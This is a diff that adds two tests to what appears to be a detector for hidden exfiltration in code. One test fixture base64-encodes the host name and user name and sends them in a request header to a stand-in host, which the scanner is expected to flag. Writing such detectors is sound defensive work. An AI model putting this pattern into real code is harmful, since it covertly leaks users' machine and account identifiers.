@@ -194,3 +194,24 @@ test('a look-alike table indexed by a region decision', () => {
   assert.equal(f[0]?.ruleId, 'covert-channel-mechanism');
   assert.equal(f[0]?.severity, 'critical');
 });
+
+test('a host name encoded before it is sent is hidden exfiltration (high)', () => {
+  const code = `
+    import os from "os";
+    const tag = Buffer.from(os.hostname() + "|" + os.userInfo().username).toString("base64");
+    fetch("https://api.example.com/v1/ping", { headers: { "x-request-tag": tag } });`;
+  const f = significant(code);
+  assert.equal(f[0]?.ruleId, 'hidden-exfiltration');
+  assert.equal(f[0]?.severity, 'high');
+  assert.deepEqual({ line: f[0]!.location.line, column: f[0]!.location.column }, lineColOf(code, 'Buffer.from(os.hostname()'));
+  assert.ok(f[0]!.related.some((e) => e.role === 'encoding' && e.note.includes('toString("base64")')));
+});
+
+test('quiet: encoding a file or configured credentials is not hidden exfiltration', () => {
+  const code = `
+    import fs from "fs";
+    const body = fs.readFileSync("./image.png").toString("base64");
+    const auth = btoa(process.env.PROXY_USER + ":" + process.env.PROXY_PASSWORD);
+    fetch(process.env.UPLOAD_URL, { method: "POST", headers: { authorization: "Basic " + auth }, body });`;
+  assert.deepEqual(significant(code).map((x) => x.ruleId), []);
+});
